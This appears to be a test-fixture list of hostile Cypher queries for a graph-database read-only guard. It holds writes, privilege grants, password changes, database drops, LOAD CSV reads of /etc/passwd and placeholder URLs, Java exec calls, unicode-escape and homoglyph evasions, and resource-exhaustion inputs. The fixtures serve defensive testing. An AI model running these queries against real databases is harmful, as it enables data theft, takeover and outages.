// Statements that mean harm. Each begins with a line `#` and says what it tries; it ends before the next such line.
// `#= [[1]]`: a server may answer, if it answers exactly this. `#memory`: the local server may end over it; Neo4j is
// spared. @FILE@, @PATH@ and @URL@ are the trap's, @U+200B@ is a letter, @100*(@ is a hundred of them.

## Writes, one for each clause
# a node
CREATE (:Hostile {id: 1})
# a node and an edge
CREATE (:Hostile)-[:TO]->(:Hostile)
# MERGE of something new
MERGE (:Hostile {id: 2})
# MERGE with ON CREATE
MERGE (n:Prey {id: 99}) ON CREATE SET n.hostile = true RETURN n
# MERGE with ON MATCH
MERGE (n:Prey {id: 1}) ON MATCH SET n.hostile = true RETURN n
# MERGE of an edge between what is there
MATCH (a:Prey {id: 1}), (b:Prey {id: 2}) MERGE (a)-[:HOSTILE]->(b)
# a property
MATCH (n:Prey) SET n.hostile = 1
# all properties at once
MATCH (n:Prey) SET n = {}
# more properties
MATCH (n:Prey) SET n += {hostile: 1} RETURN n
# a property by a computed key
MATCH (n:Prey) SET n['hos' + 'tile'] = 1
# a property of an edge
MATCH (:Prey)-[r]->() SET r.hostile = 1
# a label
MATCH (n:Prey) SET n:Hostile
# a label away
MATCH (n:Prey) REMOVE n:Prey
# a property away
MATCH (n:Prey) REMOVE n.id
# nodes away
MATCH (n:Prey) DETACH DELETE n
# edges away
MATCH (:Prey)-[r]->(:Prey) DELETE r
# a path away
MATCH p = (:Prey)-[]->(:Prey) DETACH DELETE p
# everything away
MATCH (n) DETACH DELETE n
# away without DETACH
OPTIONAL MATCH (n:Prey {id: 3}) DELETE n
# NODETACH
MATCH (n:Prey {id: 3}) NODETACH DELETE n
# INSERT, as GQL calls it
INSERT (:Hostile)
# a loop
FOREACH (i IN range(1, 3) | CREATE (:Hostile {id: i}))
# a loop in a loop
MATCH (n:Prey) FOREACH (i IN [1, 2] | FOREACH (j IN [1, 2] | SET n.hostile = i * j))
# a loop that deletes
MATCH (n:Prey) WITH collect(n) AS all FOREACH (n IN all | DETACH DELETE n)

## Writes that look like questions
# behind a question's beginning
MATCH (n:Prey) WITH n LIMIT 1 CREATE (:Hostile {of: n.id}) RETURN n.id
# behind UNWIND
UNWIND [1, 2, 3] AS i CREATE (n:Hostile {id: i}) RETURN count(n)
# behind WITH
WITH 'x' AS name CREATE (:Hostile {name: name})
# behind a line comment
// only a question
CREATE (:Hostile)
# behind a block comment
/* MATCH (n) RETURN n */ CREATE (:Hostile)
# behind a comment that seems to go on
MATCH (n:Prey) // RETURN n
SET n.hostile = 1
# in the lines of a comment that ended
MATCH (n:Prey) /* a */ SET /* b */ n.hostile /* c */ = /* d */ 1
# behind a string with a comment in it
MATCH (n:Prey) WHERE n.name <> '/*' SET n.hostile = '*/'
# behind a string with a quote in it
MATCH (n:Prey) WHERE n.name <> 'it\'s // ' DETACH DELETE n
# in small letters
match (n:Prey) detach delete n
# in mixed letters
mAtCh (n:Prey) SeT n.hostile = 1
# without spaces
MATCH(n:Prey)SET n.hostile=1RETURN(n)
# with tabs and newlines
MATCH	(n:Prey)
DETACH
	DELETE
n
# a write that finds nothing today
#= []
MATCH (n:Nobody) SET n.x = 1
# a write behind a condition that never holds
#= []
MATCH (n:Prey) WHERE false DETACH DELETE n
# a write behind LIMIT 0
#= []
MATCH (n:Prey) WITH n LIMIT 0 DETACH DELETE n
# a write in the second half of a UNION
MATCH (n:Prey) RETURN n.id AS id UNION CREATE (n:Hostile) RETURN n.id AS id
# a write in the first half of a UNION ALL
CREATE (n:Hostile) RETURN n.id AS id UNION ALL MATCH (n:Prey) RETURN n.id AS id
# property and label are called like keywords
MATCH (n:Prey) SET n.match = 'RETURN'
# FINISH at the end
MATCH (n:Prey) SET n.hostile = 1 FINISH
# a hint of an index before the write
MATCH (n:Prey) USING SCAN n:Prey SET n.hostile = 1
# an escaped keyword
MATCH (n:Prey) \u0053ET n.hostile = 1
# an escaped keyword in small letters
MATCH (n:Prey) \u0064etach \u0064elete n
# every letter escaped
MATCH (n:Prey) \u0044\u0045\u0054\u0041\u0043\u0048 \u0044\u0045\u004c\u0045\u0054\u0045 n
# an escaped newline ends the comment
#= [[1]]
RETURN 1 AS x // \u000a UNION MATCH (n:Prey) DETACH DELETE n RETURN 1 AS x
# an escaped end of comment
MATCH (n:Prey) /* \u002a\u002f SET n.hostile = 1
# an escaped quote ends the string
#= [["' AS x UNION CREATE (n:Hostile) RETURN 1 AS x //"]]
RETURN '\u0027 AS x UNION CREATE (n:Hostile) RETURN 1 AS x //' AS x
# an escaped backtick ends the name
MATCH (n:Prey) WITH n AS `n\u0060 DETACH DELETE `n`

## Writes in subqueries
# a subquery
CALL { CREATE (n:Hostile) RETURN n } RETURN n
# a subquery that returns nothing
MATCH (n:Prey) CALL { WITH n SET n.hostile = 1 } RETURN n.id
# a subquery with a scope
MATCH (n:Prey) CALL (n) { SET n.hostile = 1 } RETURN n.id
# a subquery with every variable in scope
MATCH (n:Prey) CALL (*) { DETACH DELETE n } RETURN 1
# a subquery in a subquery in a subquery
CALL { CALL { CALL { CREATE (n:Hostile) RETURN n } RETURN n } RETURN n } RETURN n
# OPTIONAL CALL
MATCH (n:Prey) OPTIONAL CALL (n) { SET n.hostile = 1 RETURN 1 AS x } RETURN x
# in transactions of its own
UNWIND range(1, 5) AS i CALL { WITH i CREATE (:Hostile {id: i}) } IN TRANSACTIONS OF 1 ROW RETURN i
# in transactions, deleting
MATCH (n:Prey) CALL { WITH n DETACH DELETE n } IN TRANSACTIONS
# in transactions at once, errors passed over
UNWIND range(1, 5) AS i CALL (i) { CREATE (:Hostile {id: i}) } IN 2 CONCURRENT TRANSACTIONS OF 1 ROW ON ERROR CONTINUE REPORT STATUS AS s RETURN s
# in transactions, beginning with CALL
CALL { CREATE (:Hostile) } IN TRANSACTIONS ON ERROR BREAK
# EXISTS with a write
RETURN EXISTS { CREATE (:Hostile) } AS x
# COUNT with a write
RETURN COUNT { MATCH (n:Prey) SET n.hostile = 1 RETURN n } AS x
# COLLECT with a write
RETURN COLLECT { MERGE (n:Hostile) RETURN n.id } AS x
# COLLECT with a subquery that writes
RETURN COLLECT { CALL { CREATE (n:Hostile) RETURN n } RETURN n.id } AS x
# a write in a list comprehension's EXISTS
MATCH (n:Prey) RETURN [x IN [1] WHERE EXISTS { CALL { CREATE (:Hostile) } RETURN 1 } | x] AS x
# a conditional query
WHEN true THEN { CREATE (:Hostile) RETURN 1 AS x } ELSE { RETURN 2 AS x }
# in braces
{ CREATE (:Hostile) }

## Schema
# an index
CREATE INDEX hostile FOR (n:Prey) ON (n.name)
# a constraint
CREATE CONSTRAINT hostile FOR (n:Prey) REQUIRE n.name IS UNIQUE
# a constraint that stands already
CREATE CONSTRAINT hostile IF NOT EXISTS FOR (n:Prey) REQUIRE n.id IS UNIQUE
# the index away
DROP INDEX prey
# every possible name away
DROP CONSTRAINT prey IF EXISTS
# a full-text index
CREATE FULLTEXT INDEX hostile FOR (n:Prey) ON EACH [n.name]
# a vector index
CREATE VECTOR INDEX hostile FOR (n:Prey) ON n.v OPTIONS {indexConfig: {`vector.dimensions`: 2}}
# an index of the old kind
CREATE INDEX ON :Prey(name)
# a lookup index away
DROP INDEX token_lookup IF EXISTS

## Settings, users, databases, other people's queries
# a user
CREATE USER mallory SET PASSWORD 'mallory-123' CHANGE NOT REQUIRED
# a password
ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'mallory-123'
# another's password
ALTER USER neo4j SET PASSWORD 'mallory-123'
# a user away
DROP USER writer IF EXISTS
# a right
GRANT ALL ON DATABASE * TO PUBLIC
# a right away
REVOKE ALL ON DATABASE * FROM PUBLIC
# a role
CREATE ROLE mallory
# a database
CREATE DATABASE mallory
# a database away
DROP DATABASE graph DESTROY DATA
# a database stopped
STOP DATABASE neo4j
# an alias to elsewhere
CREATE ALIAS mallory FOR DATABASE neo4j AT '@URL@' USER mallory PASSWORD 'x'
# another server
ENABLE SERVER 'mallory'
# a database's settings
ALTER DATABASE graph SET `arcadedb.command.timeout` 0
# a database from elsewhere
IMPORT DATABASE @URL@
# a database copied out
EXPORT DATABASE file://@PATH@/hostile.jsonl
# another database
USE system SHOW USERS
# another database in a subquery
CALL { USE system RETURN 1 AS x } RETURN x
# another database behind UNION
RETURN 1 AS x UNION ALL USE system RETURN 2 AS x
# another graph by a computed name
CALL { USE graph.byName('system') MATCH (n) RETURN n } RETURN n
# who there is
SHOW USERS
# who I am, with rights
SHOW CURRENT USER YIELD *
# rights
SHOW USER neo4j PRIVILEGES AS COMMANDS
# roles
SHOW ALL ROLES WITH USERS
# settings, by a comment
SHOW /* INDEXES */ SETTINGS
# settings, by a column called like an index
SHOW SETTINGS YIELD name AS indexes RETURN indexes
# databases
SHOW DATABASES YIELD name, address
# the default database
SHOW HOME DATABASE
# servers
SHOW SERVERS
# what others ask
SHOW TRANSACTIONS YIELD currentQuery
# what others ask, behind what is allowed
SHOW INDEXES YIELD name SHOW TRANSACTIONS YIELD transactionId
# others' queries ended
TERMINATE TRANSACTIONS 'neo4j-transaction-1', 'q1'
# others' queries ended, behind what is allowed
SHOW TRANSACTIONS YIELD transactionId AS id TERMINATE TRANSACTIONS id YIELD message RETURN message
# SHOW behind an option
CYPHER 5 SHOW USERS
# a transaction that stays open
START TRANSACTION
# a transaction's end
COMMIT
# back
ROLLBACK
# a value for the next who uses the connection
SESSION SET $id = 'hostile'
# the session's end
SESSION CLOSE
# a plan that runs what it explains
PROFILE MATCH (n:Prey) SET n.hostile = 1
# a plan behind an option
CYPHER 5 PROFILE CREATE (:Hostile)
# a plan, of a write
EXPLAIN CREATE (:Hostile)
# options in front of a write
CYPHER runtime=slotted planner=cost CREATE (:Hostile)
# options, spaced and commented
CYPHER /* 5 */ runtime /* = */ = slotted MATCH (n:Prey) DETACH DELETE n

## Two at once
# a write behind a semicolon
RETURN 1; CREATE (:Hostile)
# a write behind a semicolon without a space
RETURN 1;MATCH (n:Prey) DETACH DELETE n
# a write before a semicolon
CREATE (:Hostile); RETURN 1
# a write behind a semicolon behind a comment
RETURN 1 /* ; */ ; /* ; */ CREATE (:Hostile)
# an escaped semicolon
RETURN 1 \u003b CREATE (:Hostile)
# transaction commands between
RETURN 1; COMMIT; CREATE (:Hostile); COMMIT

## Files and the network by LOAD CSV
# a file
LOAD CSV FROM '@FILE@' AS line RETURN line
# an address
LOAD CSV FROM '@URL@' AS line RETURN line
# a file of passwords
LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line
# a file of the store's own
LOAD CSV FROM 'file:///filmgraph-store.server.json' AS line RETURN line
# with headers
LOAD CSV WITH HEADERS FROM "@FILE@" AS line FIELDTERMINATOR ';' RETURN line
# in small letters
load csv from '@FILE@' as line return line
# a comment between
LOAD/**/CSV/**/FROM/**/'@FILE@'/**/AS/**/line/**/RETURN/**/line
# a line comment between
LOAD // data
CSV FROM '@FILE@' AS line RETURN line
# a tab between
LOAD	CSV	FROM	'@FILE@'	AS	line	RETURN	line
# a carriage return between
LOAD@U+000D@CSV FROM '@FILE@' AS line RETURN line
# a no-break space between
LOAD@U+00A0@CSV FROM '@FILE@' AS line RETURN line
# a separator of old between
LOAD@U+001C@CSV FROM '@FILE@' AS line RETURN line
# an ideographic space between
LOAD@U+3000@CSV FROM '@FILE@' AS line RETURN line
# a next-line character between
LOAD@U+0085@CSV FROM '@FILE@' AS line RETURN line
# a Mongolian separator between
LOAD@U+180E@CSV FROM '@FILE@' AS line RETURN line
# a zero-width space between
LOAD@U+200B@CSV FROM '@FILE@' AS line RETURN line
# a zero-width space within
LO@U+200B@AD CSV FROM '@FILE@' AS line RETURN line
# a soft hyphen within
LO@U+00AD@AD CSV FROM '@FILE@' AS line RETURN line
# a byte-order mark before
@U+FEFF@LOAD CSV FROM '@FILE@' AS line RETURN line
# a null character before
@U+0000@LOAD CSV FROM '@FILE@' AS line RETURN line
# a null character between
LOAD@U+0000@CSV FROM '@FILE@' AS line RETURN line
# text from right to left before
@U+202E@LOAD CSV FROM '@FILE@' AS line RETURN line
# a letter that looks the same
LOAD @U+0421@SV FROM '@FILE@' AS line RETURN line
# a long s
LOAD C@U+017F@V FROM '@FILE@' AS line RETURN line
# full-width letters
@U+FF2C@@U+FF2F@@U+FF21@@U+FF24@ CSV FROM '@FILE@' AS line RETURN line
# escaped within
LO\u0041D CSV FROM '@FILE@' AS line RETURN line
# escaped in small hexadecimals
UNWIND [1] AS x \u004c\u006f\u0061\u0064 C\u0053V FROM '@FILE@' AS line RETURN line
# escaped with many u
LO\uuuu0041D CSV FROM '@FILE@' AS line RETURN line
# an escaped space between
LOAD\u0020CSV FROM '@FILE@' AS line RETURN line
# an escaped address
LOAD CSV FROM '\u0068ttp' + substring('@URL@', 4) AS line RETURN line
# behind a line comment that a carriage return ends
RETURN 1 AS line // harmless@U+000D@ UNION LOAD CSV FROM '@FILE@' AS line RETURN line
# behind an escaped newline in a comment
// harmless \u000a LOAD CSV FROM '@FILE@' AS line RETURN line
# behind an escaped carriage return in a comment
RETURN 1 AS line // harmless \u000d UNION LOAD CSV FROM '@FILE@' AS line RETURN line
# behind an escaped end of comment
/* harmless \u002a\u002f LOAD CSV FROM '@FILE@' AS line RETURN line
# behind an escaped comment
\u002f* harmless *\u002f LOAD CSV FROM '@FILE@' AS line RETURN line
# behind a string that an escaped quote ends
RETURN '\u0027 AS line UNION LOAD CSV FROM '@FILE@' AS line RETURN line
# behind a string that an escaped backslash keeps open
RETURN '\u005c' AS line UNION LOAD CSV FROM \u0027@FILE@\u0027 AS line RETURN line //'
# behind a name that an escaped backtick ends
RETURN 1 AS `line\u0060 UNION LOAD CSV FROM '@FILE@' AS `line` RETURN `line`
# behind two backslashes and a quote
RETURN '\\' AS line UNION LOAD CSV FROM '@FILE@' AS line RETURN line //'
# behind a backtick in backticks
RETURN 1 AS ```` UNION LOAD CSV FROM '@FILE@' AS ```` RETURN ````
# behind a name that looks like a dot
WITH 1 AS `.` LOAD CSV FROM '@FILE@' AS line RETURN line
# behind a name that looks like a parameter's sign
WITH 1 AS `$` LOAD CSV FROM '@FILE@' AS line RETURN line
# behind a name that looks like a colon
WITH 1 AS `:` LOAD CSV FROM '@FILE@' AS line RETURN line
# behind a number
UNWIND [1] AS x WITH x WHERE x = 1 LOAD CSV FROM '@FILE@' AS line RETURN line
# behind a bracket, without a space
UNWIND [1] AS x WITH x WHERE x = (1)LOAD CSV FROM '@FILE@' AS line RETURN line
# behind a string, without a space
UNWIND [1] AS x WITH x WHERE x <> ''LOAD CSV FROM '@FILE@' AS line RETURN line
# behind UNION
MATCH (n:Prey) RETURN n.name AS line UNION LOAD CSV FROM '@URL@' AS line RETURN line
# in a subquery
MATCH (n:Prey) CALL { LOAD CSV FROM '@URL@' AS line RETURN line } RETURN line
# in a subquery, in transactions
CALL { LOAD CSV FROM '@FILE@' AS line RETURN line } IN TRANSACTIONS RETURN line
# in COLLECT
RETURN COLLECT { LOAD CSV FROM '@FILE@' AS line RETURN line } AS lines
# in EXISTS
MATCH (n:Prey) WHERE EXISTS { LOAD CSV FROM '@URL@' AS line RETURN line } RETURN n
# in COUNT, in a list comprehension
RETURN [x IN [1, 2] | COUNT { LOAD CSV FROM '@URL@' AS line RETURN line }] AS x
# its line into the graph
LOAD CSV FROM '@FILE@' AS line CREATE (:Hostile {line: line[0]})
# an address with a user
LOAD CSV FROM 'http://user:password@' + substring('@URL@', 7) AS line RETURN line
# the graph carried out, a node at a time
MATCH (n:Prey) LOAD CSV FROM '@URL@' + n.name AS line RETURN line
# a name for the address
WITH '@URL@' AS address LOAD CSV FROM address AS line RETURN line
# with options in front
CYPHER planner=cost LOAD CSV FROM '@FILE@' AS line RETURN line
# PERIODIC COMMIT
USING PERIODIC COMMIT 500 LOAD CSV FROM '@FILE@' AS line CREATE (:Hostile)
# PROFILE
PROFILE LOAD CSV FROM '@FILE@' AS line RETURN line
# by FTP
LOAD CSV FROM 'ftp' + substring('@URL@', 4) AS line RETURN line
# out of an archive
LOAD CSV FROM 'jar:@FILE@!/x' AS line RETURN line

## Procedures
# the configuration
CALL dbms.listConfig() YIELD name, value RETURN name, value
# with spaces
CALL dbms . listConfig ( )
# with newlines and comments
CALL dbms // db
. /* labels */ listConfig()
# in backticks
CALL `dbms`.`listConfig`()
# in one pair of backticks
CALL `dbms.listConfig`()
# without brackets
CALL dbms.listConfig
# an allowed name as the beginning
CALL db.labels.hostile()
# an allowed name in a comment
CALL /* db.labels() */ dbms.listConfig()
# an allowed one first
CALL db.labels() YIELD label CALL dbms.listConfig() YIELD name RETURN name
# escaped
CALL dbms\u002elistConfig()
# the word escaped
MATCH (n:Prey) C\u0041LL dbms.listConfig() YIELD name RETURN name
# OPTIONAL
OPTIONAL CALL dbms.listConfig() YIELD name RETURN name
# in a subquery
CALL { CALL dbms.listConfig() YIELD name RETURN name } RETURN name
# behind a name that looks like a dot
WITH 1 AS `.` CALL dbms.listConfig() YIELD name RETURN name
# behind a number with a point
WITH 1.CALL dbms.listConfig() YIELD name RETURN name
# who I am
CALL dbms.showCurrentUser()
# the machine
CALL dbms.queryJmx('java.lang:type=OperatingSystem')
# connections
CALL dbms.listConnections() YIELD connectionId CALL dbms.killConnection(connectionId) YIELD message RETURN message
# the server's end
CALL dbms.shutdown()
# a setting
CALL dbms.setConfigValue('db.transaction.timeout', '0')
# caches
CALL db.clearQueryCaches()
# a label without a node
CALL db.createLabel('Hostile')
# a type without an edge
CALL db.createRelationshipType('HOSTILE')
# a property's name
CALL db.createProperty('hostile')
# a vector
MATCH (n:Prey) CALL db.create.setNodeVectorProperty(n, 'v', [1.0]) RETURN n
# a full-text index of old
CALL db.index.fulltext.createNodeIndex('hostile', ['Prey'], ['name'])
# an index away
CALL db.index.fulltext.drop('prey')
# an index's figures
CALL db.resampleIndex('prey')
# other people's queries, recorded
CALL db.stats.retrieve('QUERIES')
# waiting
CALL db.awaitIndexes(100000)
# words in others' logs
CALL tx.setMetaData({hostile: true})
# old dates made new
CALL db.migrateLegacyTemporals()
# nodes merged
MATCH (n:Prey) WITH collect(n) AS all CALL refactor.mergeNodes(all) YIELD node RETURN node
# a node by procedure
CALL merge.node(['Hostile'], {id: 1}) YIELD node RETURN node
# the same as APOC
CALL apoc.merge.node(['Hostile'], {id: 1}) YIELD node RETURN node
# other Cypher
CALL apoc.cypher.runWrite('CREATE (:Hostile)', {})
# other Cypher, if
CALL apoc.do.when(true, 'CREATE (:Hostile)', '', {}) YIELD value RETURN value
# the same elsewhere
CALL do.when(true, 'CREATE (:Hostile)', 'RETURN 1', {}) YIELD value RETURN value
# other Cypher, by and by
CALL apoc.periodic.iterate('MATCH (n:Prey) RETURN n', 'DETACH DELETE n', {batchSize: 1})
# other Cypher, later
CALL apoc.trigger.install('neo4j', 'hostile', 'CREATE (:Hostile)', {})
# other Cypher, to draw its schema
CALL apoc.meta.graph.of("LOAD CSV FROM '@FILE@' AS line RETURN line")
# a file
CALL apoc.load.csv('@FILE@')
# an address
CALL apoc.load.json('@URL@')
# another database
CALL apoc.load.jdbc('jdbc:mysql://127.0.0.1/x', 'SELECT 1')
# the graph into a file
CALL apoc.export.csv.all('@PATH@/hostile.csv', {})
# statements from a file
CALL apoc.cypher.runFile('@FILE@')
# a file written
CALL apoc.log.info('hostile')
# SQL
CALL sql('delete from Prey')
# a script
CALL js('1 + 1')
# Java
CALL java.lang.Runtime.exec('id')
# a function called as a procedure
CALL util.sleep(100000)

## Functions
# sleep
RETURN util.sleep(100000) AS x
# sleep, as APOC
RETURN apoc.util.sleep(100000) AS x
# sleep, with spaces
RETURN util . /* md5 */ sleep (100000) AS x
# sleep, in backticks
RETURN `util`.`sleep`(100000) AS x
# sleep, in the end of a slice
RETURN [1, 2, 3][0..util.sleep(100000)] AS x
# sleep, behind a name that looks like a dot
RETURN [1][`.` IN [util.sleep(100000)]] AS x
# other Cypher
RETURN apoc.cypher.runFirstColumnSingle('CREATE (n:Hostile) RETURN n', {}) AS x
# SQL's functions, which evaluate text
RETURN sql.eval('1') AS x
# SQL
RETURN sql.query('delete from Prey') AS x
# a script
RETURN js.eval('java.lang.System.exit(1)') AS x
# Java
RETURN java.lang.System.getenv('HOME') AS x
# a service
RETURN genai.vector.encode('x', 'OpenAI', {token: 'x', endpoint: '@URL@'}) AS x
# the configuration
RETURN apoc.static.getAll('') AS x
# a graph projected into memory
MATCH (a)-[r]->(b) RETURN gds.graph.project('hostile', a, b) AS x
# a bomb that unpacks
RETURN util.decompress('x') AS x
# an error of one's choice
RETURN apoc.util.validatePredicate(true, 'hostile', []) AS x

## Texts that choke a parser
# a string that does not end
MATCH (n:Prey) WHERE n.name = 'never RETURN n
# a name that does not end
MATCH (`never) RETURN 1
# a comment that does not end
RETURN 1 /* never
# brackets by the thousand
RETURN @10000*(@1@10000*)@ AS x
# lists by the thousand
RETURN @10000*[@1@10000*]@ AS x
# subqueries by the thousand
@1000*CALL { @RETURN 1 AS x@1000* } RETURN x@
# CASE by the thousand
RETURN @1000*CASE WHEN true THEN @1@1000* END@ AS x
# very long
RETURN size('@2000000*x@') AS x
# a very long comment
/* @5000000*x@ */ RETURN 1 AS x
# very many terms
RETURN 1@20000* + 1@ AS x
# very many UNIONs
@5000*RETURN 1 AS x UNION ALL @RETURN 1 AS x
# NOT by the thousand
RETURN @20000*NOT @true AS x
# nothing but null characters
@100*@U+0000@@
# nothing but a semicolon
;
# nothing but a comment
/* RETURN 1 */

## Work without end
# a thousand million rows
UNWIND range(1, 1000000) AS a UNWIND range(1, 1000000) AS b WITH a, b WHERE a + b = -1 RETURN count(*)
# three loops
UNWIND range(1, 10000) AS a UNWIND range(1, 10000) AS b UNWIND range(1, 10000) AS c WITH c WHERE c < 0 RETURN c
# every path
MATCH p = (:Prey)-[*1..30]-(:Prey) RETURN count(p)
# more than there are numbers
UNWIND range(1, 1099511627776) AS x RETURN count(DISTINCT x)
# a pattern that goes back and back
#= [[false]]
RETURN '@60*a@!' =~ '(a+)+$' AS x
# another one
#= [[false]]
RETURN '@60*a@!' =~ '(a|aa)+$' AS x
# too long for a duration
RETURN duration({days: 9223372036854775807}) AS x
# too great for a number
RETURN 9223372036854775807 * 3 AS x

## Memory
# a list of a million million
#memory
RETURN [x IN range(1, 1099511627776) | x] AS x
# a text that doubles
#memory
RETURN size(reduce(s = 'ab', i IN range(1, 40) | s + s)) AS x
# a text without end
#memory
RETURN size(text.random(2000000000, 'x')) AS x
